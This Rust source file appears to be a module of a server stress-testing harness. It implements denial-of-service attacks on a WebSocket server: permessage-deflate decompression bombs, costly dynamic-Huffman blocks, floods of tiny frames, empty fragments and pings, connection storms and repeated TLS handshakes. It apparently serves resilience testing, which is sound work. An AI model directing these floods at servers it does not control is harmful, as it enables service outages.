//! Attacks on WebSocket.

use std::collections::VecDeque;
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use flate2::{Compress, Compression, FlushCompress};
use rustls::ClientConnection;
use rustls::pki_types::ServerName;

use super::pace::{Attacker, TCP};
use crate::websocket::{REQUEST, client_config};

/// Connections that stay.
const PEERS: usize = 4;
/// Connections of those that come and go that are there at once.
const GOING: usize = 64;
/// The size of one write, in bytes.
const PIECE: usize = 16 << 10;
/// The payload of a TCP segment.
const SEGMENT: usize = 1448;
/// The packets that begin and end a connection.
const CONNECTION: usize = 7 * TCP;
/// Timeout of a connection attempt.
const CONNECT_LIMIT: Duration = Duration::from_millis(100);
/// The size of an inflated message.
const LONG: usize = 512 << 10;

/// The data to send.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    DynamicBlocks,
    TinyMessages,
    EmptyFragments,
    Pings,
    Storm,
    TlsHellos,
}

/// Connects as far as the kind needs it.
pub(super) fn begin(server: SocketAddr, kind: Kind) -> Result<Box<dyn Attacker>> {
    let frames = match kind {
        Kind::DynamicBlocks => frame(0xC2, &dynamic_blocks()),
        Kind::TinyMessages => frame(0x82, b"x"),
        Kind::EmptyFragments => frame(0x00, b""),
        Kind::Pings => frame(0x89, b""),
        Kind::Storm => {
            let message = frame(0xC2, &deflated(&[&vec![0; LONG]]));
            return Ok(Box::new(Visitors::new(server, [request(), message].concat())));
        }
        Kind::TlsHellos => {
            let mut hello = Vec::new();
            let name = ServerName::try_from("localhost")?;
            ClientConnection::new(client_config()?, name)?.write_tls(&mut hello)?;
            return Ok(Box::new(Visitors::new(server, hello)));
        }
    };
    let bytes = frames.repeat(PIECE.div_ceil(frames.len()));
    // A fragment goes on with a message.
    let first = if kind == Kind::EmptyFragments { frame(0x02, b"") } else { Vec::new() };
    let peers = (0..PEERS).map(|_| Peer::join(server, &first)).collect::<Result<_>>()?;
    Ok(Box::new(Peers { peers, bytes }))
}

/// Peers that stay, and send the same bytes again and again.
struct Peers {
    peers: Vec<Peer>,
    bytes: Vec<u8>,
}

struct Peer {
    stream: TcpStream,
    /// The number of written bytes.
    written: usize,
}

impl Peer {
    fn join(server: SocketAddr, first: &[u8]) -> Result<Self> {
        let mut stream = TcpStream::connect(server)?;
        stream.set_read_timeout(Some(Duration::from_secs(10)))?;
        stream.write_all(&request())?;
        let mut answer = Vec::new();
        let mut buffer = [0; 1024];
        while !answer.ends_with(b"\r\n\r\n") {
            let len = stream.read(&mut buffer)?;
            ensure!(len > 0, "the server refuses the attacker");
            answer.extend_from_slice(&buffer[..len]);
        }
        ensure!(answer.starts_with(b"HTTP/1.1 101 "), "the server refuses the attacker");
        stream.write_all(first)?;
        stream.set_nonblocking(true)?;
        Ok(Self { stream, written: 0 })
    }
}

impl Attacker for Peers {
    fn send(&mut self, _: usize) -> Result<usize> {
        let mut sent = 0;
        for peer in &mut self.peers {
            match peer.stream.write(&self.bytes[peer.written..]) {
                Ok(len) => {
                    peer.written = (peer.written + len) % self.bytes.len();
                    sent += len + len.div_ceil(SEGMENT) * TCP;
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(error) => return Err(error).context("the server drops the attacker"),
            }
        }
        Ok(sent)
    }

    fn serve(&mut self) -> Result<()> {
        let mut buffer = [0; 16 << 10];
        for peer in &mut self.peers {
            // As much as one sends in a turn.
            for _ in 0..16 {
                if !matches!(peer.stream.read(&mut buffer), Ok(1..)) {
                    break;
                }
            }
        }
        Ok(())
    }
}

/// Connections that come and go.
struct Visitors {
    server: SocketAddr,
    /// The data that each one sends.
    bytes: Vec<u8>,
    there: VecDeque<TcpStream>,
}

impl Visitors {
    fn new(server: SocketAddr, bytes: Vec<u8>) -> Self {
        Self { server, bytes, there: VecDeque::new() }
    }
}

impl Attacker for Visitors {
    fn send(&mut self, _: usize) -> Result<usize> {
        // It fails while more wait to be accepted than the system takes.
        let Ok(mut stream) = TcpStream::connect_timeout(&self.server, CONNECT_LIMIT) else {
            return Ok(0);
        };
        stream.set_nonblocking(true)?;
        // A server that has ended it already has answered.
        let _ = stream.write(&self.bytes);
        self.there.push_back(stream);
        if self.there.len() > GOING {
            self.there.pop_front();
        }
        let len = self.bytes.len();
        Ok(len + len.div_ceil(SEGMENT) * TCP + CONNECTION)
    }

    fn serve(&mut self) -> Result<()> {
        // What has not been read when a connection ends would reset it.
        let mut buffer = [0; 4096];
        for stream in &mut self.there {
            while matches!(stream.read(&mut buffer), Ok(1..)) {}
        }
        Ok(())
    }
}

/// A request that offers compression.
fn request() -> Vec<u8> {
    let end = REQUEST.len() - 2;
    [&REQUEST[..end], b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"].concat()
}

/// A frame of a client's, whose mask changes nothing.
fn frame(first: u8, payload: &[u8]) -> Vec<u8> {
    let mut frame = vec![first];
    if payload.len() < 126 {
        frame.push(0x80 | payload.len() as u8);
    } else {
        frame.push(0x80 | 126);
        frame.extend((payload.len() as u16).to_be_bytes());
    }
    frame.extend([0; 4]);
    frame.extend_from_slice(payload);
    frame
}

/// Blocks with dynamic codes, each with few bytes of content: the table of the codes takes longer than they do.
fn dynamic_blocks() -> Vec<u8> {
    let mut state = 9_u64;
    let mut block = || {
        let letter = |_| {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            b'a' + ((state >> 33) % 12) as u8
        };
        (0..200).map(letter).collect::<Vec<u8>>()
    };
    let blocks: Vec<_> = (0..20).map(|_| block()).collect();
    deflated(&blocks.iter().map(Vec::as_slice).collect::<Vec<_>>())
}

/// A message of blocks, as it stands in a frame.
fn deflated(blocks: &[&[u8]]) -> Vec<u8> {
    let mut compressor = Compress::new(Compression::best(), false);
    let mut out = Vec::with_capacity(64 << 10);
    for block in blocks {
        // It fails for a stream that has ended, which this has not.
        let _ = compressor.compress_vec(block, &mut out, FlushCompress::Partial);
    }
    let _ = compressor.compress_vec(&[], &mut out, FlushCompress::Sync);
    // RFC 7692 section 7.2.1: the end of the last block is left out.
    out.truncate(out.len() - 4);
    out
}
